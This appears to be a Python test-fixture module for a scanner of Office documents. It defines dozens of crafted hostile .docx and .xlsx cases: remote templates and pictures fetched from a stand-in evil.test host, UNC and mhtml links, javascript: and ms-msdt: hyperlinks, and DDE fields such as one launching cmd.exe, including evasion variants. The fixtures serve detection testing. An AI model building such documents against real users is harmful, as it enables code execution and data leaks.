"""What fetches something from elsewhere when the file is opened, or leads somewhere that a page or a mail does not?"""

from tests.materials import files
from tests.materials.compound_files import formula
from tests.materials.files import docx, field, relations
from tests.materials.hostile.case import Hostile
from tests.materials.hostile.refused import CHUNK, TEMPLATE, fetching, leading, linked

FILE = ("hyperlink", "file:///C:\\我的文档\\附件.doc", True)
PAGE = ("hyperlink", "https://example.test/", True)
FETCHES = ("DDE", "DDEAUTO", "INCLUDE", "INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "LINK", "DATABASE", "RD")
MISSING_END = field("DDE x").replace('fldCharType="end"', 'fldCharType="none"')
NESTED = field("QUOTE 68 68 69").join(['<w:r><w:fldChar w:fldCharType="begin"/></w:r>', ""])


def beside(part: str, *pointing: files.Relation, content: bytes = b"<a/>") -> bytes:
    """With another part that points there."""
    folder, _, name = part.rpartition("/")
    return docx(more={part: content, f"{folder}/_rels/{name}.rels": relations(*pointing)})


def within(part: str, inside: str) -> bytes:
    """The same field in another part."""
    return docx(more={part: files.body(inside)})


LINKS: dict[str, Hostile] = {
    # templates
    "a remote template": Hostile(docx(("attachedTemplate", "https://evil.test/a.dotm", True)), TEMPLATE),
    "a template on a server": Hostile(docx(("attachedTemplate", "file://evil/a.dotm", True)), TEMPLATE),
    "a template by UNC": Hostile(docx(("attachedTemplate", "\\\\evil\\a.dotm", True)), TEMPLATE),
    "a template by UNC and file": Hostile(docx(("attachedTemplate", "file:////evil/a.dotm", True)), TEMPLATE),
    "a template of the settings": Hostile(
        beside("word/settings.xml", ("attachedTemplate", "http://evil.test/a.dotm", True)), TEMPLATE
    ),
    # pictures
    "a linked picture": Hostile(docx(("image", "http://evil.test/a.png", True)), linked("图片")),
    "a linked picture on a server": Hostile(docx(("image", "\\\\evil\\a.png", True)), linked("图片")),
    "a linked picture by file": Hostile(docx(("image", "file://evil/a.png", True)), linked("图片")),
    "a linked picture in a header": Hostile(
        beside("word/header1.xml", ("image", "http://evil.test/a.png", True)), linked("图片")
    ),
    "a linked picture in a footnote": Hostile(
        beside("word/footnotes.xml", ("image", "http://evil.test/a.png", True)), linked("图片")
    ),
    "a link that is not marked as one": Hostile(docx(("image", "http://evil.test/a.png")), linked("图片")),
    "a link to a server that is not marked as one": Hostile(docx(("image", "//evil.test/a.png")), linked("图片")),
    "a picture by its address": Hostile(docx(inside='<v:imagedata src="http://evil.test/"/>'), linked("图片")),
    "a picture by a server's name": Hostile(docx(inside='<v:imagedata src="\\\\evil\\a.png"/>'), linked("图片")),
    "a filling by its address": Hostile(docx(inside='<v:fill src="http://evil.test/a.png"/>'), linked("图片")),
    "a picture by a link to a page": Hostile(docx(PAGE, inside='<a:blip r:link="rId1"/>'), linked("图片")),
    "an old picture by a link to a page": Hostile(docx(PAGE, inside='<v:imagedata r:href="rId1"/>'), linked("图片")),
    "a drawing that fetches a picture": Hostile(
        docx(more={"word/media/a.svg": b'<svg><image href="http://evil.test/a.png"/></svg>'}), linked("图片")
    ),
    "a film from the net": Hostile(
        docx(inside='<wp15:webVideoPr embeddedHtml="&lt;iframe src=http://evil.test/&gt;"/>'), linked("在线视频")
    ),
    # objects, frames, other documents
    "a linked object": Hostile(docx(("oleObject", "file:///C:/a.xls", True)), linked("对象")),
    "a linked object on the net": Hostile(docx(("oleObject", "http://evil.test/a.html!", True)), linked("对象")),
    "a linked object by MHTML": Hostile(
        docx(("oleObject", "mhtml:http://evil.test/a.html!x-usc:http://evil.test/a.html", True)), linked("对象")
    ),
    "an object said to be linked": Hostile(files.with_object(formula(), "Equation.3", type="Link"), linked("对象")),
    "an object linked in the new way": Hostile(
        docx(("oleObject", "embeddings/a.bin"), inside='<w:objectLink w:progId="Equation.3" r:id="rId1"/>'),
        linked("对象"),
    ),
    "an object by a link to a page": Hostile(
        docx(PAGE, inside='<o:OLEObject Type="Embed" ProgID="Equation.3" r:id="rId1"/>'), linked("对象")
    ),
    "a frame": Hostile(docx(("frame", "a.htm")), linked("框架网页")),
    "a set of frames": Hostile(docx(more={"word/webSettings.xml": b"<a><frameset/></a>"}), linked("框架网页")),
    "a sub-document": Hostile(docx(("subDocument", "a.docx", True)), linked("子文档")),
    "another document not merged": Hostile(docx(("aFChunk", "a.html"), more={"word/a.html": files.HTML}), CHUNK),
    "another document from the net": Hostile(docx(("aFChunk", "http://evil.test/a.rtf", True)), CHUNK),
    "another document by a link to a page": Hostile(docx(PAGE, inside='<w:altChunk r:id="rId1"/>'), CHUNK),
    "letters to many": Hostile(docx(("mailMergeSource", "file:///a.mdb", True)), linked("邮件合并数据")),
    "letters to many by a query": Hostile(
        docx(more={"word/settings.xml": files.body('<w:connectString w:val="Provider=x"/>')}), linked("邮件合并数据")
    ),
    "a chart whose figures lie elsewhere": Hostile(
        beside("word/charts/chart1.xml", ("oleObject", "file:///C:/a.xlsx", True)), linked("对象")
    ),
    "a relation of a kind nobody knows": Hostile(docx(("evil", "http://evil.test/", True)), linked("内容")),
    "a workbook that reads another": Hostile(
        files.with_chart(files.xlsx(("externalLinkPath", "http://evil.test/a.xlsx", True))), linked("内容")
    ),
    "a workbook that asks a database": Hostile(
        files.with_chart(files.xlsx(more={"xl/connections.xml": b"<a><dbPr connection='x'/></a>"})), linked("数据连接")
    ),
    "a workbook that asks a page": Hostile(
        files.with_chart(files.xlsx(more={"xl/connections.xml": b"<a><webPr url='http://evil.test'/></a>"})),
        linked("数据连接"),
    ),
    # hyperlinks
    "a link into the computer": Hostile(docx(FILE), leading("file:///C:\\我的文档\\附件.doc")),
    "a link that runs": Hostile(docx(("hyperlink", "javascript:alert(1)", True)), leading("javascript:alert(1)")),
    "a link to a server": Hostile(
        docx(("hyperlink", "\\\\evil\\share\\a.exe", True)), leading("\\\\evil\\share\\a.exe")
    ),
    "a link to a tool of the system": Hostile(docx(("hyperlink", "ms-msdt:/id", True)), leading("ms-msdt:/id")),
    "a link to a file beside it": Hostile(docx(("hyperlink", "附件.exe", True)), leading("附件.exe")),
    "a link into the computer as a field": Hostile(
        docx(inside=field(' HYPERLINK "file:///C:/a.exe" ')), leading("file:///C:/a.exe")
    ),
    "a link to a server as a field": Hostile(
        docx(inside=field(" HYPERLINK ", "\\\\\\\\evil\\\\a.exe")), leading("\\\\\\\\evil\\\\a.exe")
    ),
    # fields
    **{f"the field {name}": Hostile(docx(inside=field(f' {name} "x" ')), fetching(name)) for name in FETCHES},
    "a program by DDE": Hostile(docx(inside=field('DDEAUTO c:\\cmd.exe "/k calc"')), fetching("DDEAUTO")),
    "DDE over runs": Hostile(docx(inside=field(" D", "D", "E ", "excel")), fetching("DDE")),
    "DDE in quotes": Hostile(docx(inside=field(' "DDE" excel ')), fetching("DDE")),
    "DDE in small letters": Hostile(docx(inside=field("ddeauto x")), fetching("DDEAUTO")),
    "DDE in a simple field": Hostile(docx(inside='<w:fldSimple w:instr="dde x"/>'), fetching("DDE")),
    "DDE within another field": Hostile(
        docx(inside=field("IF 1 = 1 ").replace("</w:instrText></w:r>", f"</w:instrText></w:r>{field('DDE x')}")),
        fetching("DDE"),
    ),
    "DDE in a field never closed": Hostile(docx(inside=MISSING_END), fetching("DDE")),
    "DDE in deleted text": Hostile(docx(inside=field("DDE x").replace("instrText", "delInstrText")), fetching("DDE")),
    "DDE in a header": Hostile(within("word/header1.xml", field("DDE x")), fetching("DDE")),
    "DDE in a footnote": Hostile(within("word/footnotes.xml", field("DDE x")), fetching("DDE")),
    "DDE in a comment": Hostile(within("word/comments.xml", field("DDE x")), fetching("DDE")),
    "DDE in a text box": Hostile(docx(inside=f"<w:txbxContent>{field('DDE x')}</w:txbxContent>"), fetching("DDE")),
    "DDE in a fallback": Hostile(docx(inside=f"<mc:Fallback>{field('DDE x')}</mc:Fallback>"), fetching("DDE")),
    "DDE behind a chart": Hostile(
        files.with_chart(files.xlsx(more={"xl/externalLinks/a.xml": b"<externalLink><ddeLink/></externalLink>"})),
        fetching("DDE"),
    ),
    "a code made by another field": Hostile(docx(inside=NESTED), fetching("嵌套的域")),
}
